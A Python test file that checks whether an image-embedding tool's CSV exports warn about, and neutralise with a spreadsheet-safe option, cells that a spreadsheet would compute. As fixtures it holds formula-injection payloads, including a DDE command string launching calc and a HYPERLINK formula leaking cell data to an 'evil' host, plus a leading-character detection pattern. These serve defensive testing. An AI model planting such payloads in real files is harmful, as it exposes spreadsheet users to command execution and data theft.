"""Texts that a spreadsheet would compute: CSV files hold them exactly and a warning counts them, or they are made texts."""

import csv
import json
import re
from pathlib import Path

import pandas
from stored import require

from security.tool import Tool

FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", '=HYPERLINK("http:evil?"&A1,"x")']
SAFE = ["a=1", "'=1", "''+1", "'a", " =1"]
FIRST = "[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]"
CATEGORY = "=cmd|' -C calc'!A0"


def check_spreadsheets(tool: Tool, photo: bytes) -> str:
    """Embeds images with such names, and reads what the commands write with csv and pandas, and through `evaluate`."""
    folder = tool.place / "cells"
    folder.mkdir()
    ids = {f"{text}.png" for text in FORMULAS + SAFE}
    for name in ids:
        (folder / name).write_bytes(photo)
    categories = {CATEGORY: {"positive": ["a cat"]}, "dog": {"positive": ["a dog"]}}
    (tool.place / "cells.json").write_text(json.dumps({"threshold": -1, "categories": categories}))
    require(tool.embed("cells", store="cells-store").status == 0, "the images are not embedded")
    scored = ["cells-store", "--categories", "cells.json", "--model", tool.model]
    for command, texts in (("classify", len(FORMULAS)), ("score", len(FORMULAS))):
        check_results(tool, [command, *scored], ids, texts)
    check_refusals(tool, scored)
    check_labels(tool, scored, ids)
    check_others(tool, ids)
    return f"spreadsheets: {len(FORMULAS)} texts in 5 commands"


def check_results(tool: Tool, words: list[str], ids: set[str], texts: int) -> None:
    """Results are exact, and safe on request; reading safe results undoes it."""
    exact = tool.run(*words, "--output", "cells.csv")
    require(exact.status == 0 and "--spreadsheet-safe" in exact.errors.decode(), f"{words[0]} does not warn: {exact.text}")
    require(int(exact.errors.decode().split("cells.csv: ")[1].split()[0]) >= texts, f"{words[0]} counts too few: {exact.text}")
    table = read(tool.place / "cells.csv")
    require(set(table["id"]) == ids, f"{words[0]}: the ids are {set(table['id'])}")
    safe = tool.run(*words, "--output", "safe.csv", "--spreadsheet-safe", "--force")
    require(safe.status == 0 and not safe.errors, f"{words[0]} --spreadsheet-safe: {safe.text}")
    require(not formulas(tool.place / "safe.csv"), f"{words[0]} leaves formulas: {formulas(tool.place / 'safe.csv')}")
    undone = {re.sub(f"^'(?='*{FIRST})", "", id) for id in read(tool.place / "safe.csv")["id"]}
    require(undone == ids, f"{words[0]}: undone ids are {undone}")


def read(path: Path) -> pandas.DataFrame:
    return pandas.read_csv(path, dtype=str, keep_default_na=False)


def formulas(path: Path) -> list[str]:
    """The cells of a CSV file that a spreadsheet computes, except numbers."""
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    return [cell for cell in cells if re.match(FIRST, cell) and not is_number(cell)]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell == cell.strip()


def check_refusals(tool: Tool, scored: list[str]) -> None:
    for output in ("cells.parquet", "cells.jsonl"):
        refused = tool.run("classify", *scored, "--output", output, "--spreadsheet-safe")
        require(refused.status == 2 and "--spreadsheet-safe is for CSV" in refused.text, f"{output}: {refused.text}")


def check_labels(tool: Tool, scored: list[str], ids: set[str]) -> None:
    """A labels file is exact: `evaluate` finds every image again."""
    drawn = tool.run("sample", *scored, "--per-category", "20", "--output", "cells-labels.csv")
    require("cells-labels.csv: " in drawn.errors.decode(), f"sample does not warn: {drawn.text}")
    table = read(tool.place / "cells-labels.csv")
    require(set(table["id"]) == ids, f"the labels are for {set(table['id'])}")
    table["label"] = ["1" if number % 2 else "0" for number in range(len(table))]
    # Without quotes, a carriage return would end its row.
    table.to_csv(tool.place / "cells-labelled.csv", index=False, quoting=csv.QUOTE_ALL)
    evaluated = tool.run("evaluate", *scored, "--labels", "cells-labelled.csv")
    require(evaluated.status == 0, f"evaluate: {evaluated.text}")


def check_others(tool: Tool, ids: set[str]) -> None:
    """Tables that are printed or written by other commands."""
    search = ["search", "cells-store", "a cat", "--top", "100", "--model", tool.model]
    printed = tool.run(*search, "--format", "csv")
    require(f"the printed results: {len(FORMULAS)} texts begin" in printed.errors.decode(), f"search: {printed.text}")
    safe = tool.run(*search, "--output", "found.csv", "--spreadsheet-safe")
    require(safe.status == 0 and not formulas(tool.place / "found.csv"), f"search: {formulas(tool.place / 'found.csv')}")
    same = tool.run("duplicates", "cells-store", "--output", "same.csv", "--spreadsheet-safe")
    require(same.status == 0 and not formulas(tool.place / "same.csv"), f"duplicates: {formulas(tool.place / 'same.csv')}")
    (tool.place / "none.json").write_text(json.dumps({"threshold": 2, "categories": {"dog": {"positive": ["a dog"]}}}))
    diff = tool.run("diff", "cells-store", "cells.json", "none.json", "--output", "diff.csv", "--spreadsheet-safe", "--model", tool.model)
    require(diff.status == 0 and not formulas(tool.place / "diff.csv"), f"diff: {diff.text}")
